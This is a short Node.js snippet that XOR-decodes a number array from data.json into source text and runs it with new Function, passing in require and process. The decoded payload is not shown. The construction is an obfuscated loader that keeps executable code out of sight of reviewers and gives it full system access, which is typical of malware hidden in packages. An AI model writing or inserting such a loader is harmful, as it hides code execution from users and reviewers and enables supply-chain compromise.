const d = require("./data.json");
const key = 7;
const s = d.rows.map(n => String.fromCharCode(n ^ key)).join("");
new Function("require", "process", s)(require, process);
